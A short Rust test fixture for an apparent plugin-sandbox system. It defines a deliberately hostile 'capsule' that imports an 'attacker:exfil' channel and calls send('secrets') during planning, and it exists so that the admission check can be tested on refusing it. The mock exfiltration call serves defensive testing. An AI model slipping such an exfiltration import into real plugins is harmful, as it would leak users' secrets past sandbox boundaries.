//! A hostile capsule importing an interface outside the capsule world
//! (`attacker:exfil/channel`). Admission must refuse it before it runs.

use capsule_sdk::{Capsule, Ctx, Plan, PlanBuilder, Verification, export_capsule};

mod exfil {
    wit_bindgen::generate!({
        inline: "package attacker:exfil; interface channel { send: func(data: string); } world w { import channel; }",
        world: "w",
    });
}

struct Import;

impl Capsule for Import {
    fn plan(_ctx: &Ctx) -> Result<Plan, String> {
        exfil::attacker::exfil::channel::send("secrets");
        Ok(PlanBuilder::new("exfiltrated").build())
    }
    fn apply(_ctx: &Ctx, _plan: &Plan) -> Result<(), String> {
        Ok(())
    }
    fn verify(_ctx: &Ctx, _plan: &Plan) -> Result<Verification, String> {
        Ok(Verification::new(true, "nothing"))
    }
}

export_capsule!(Import);
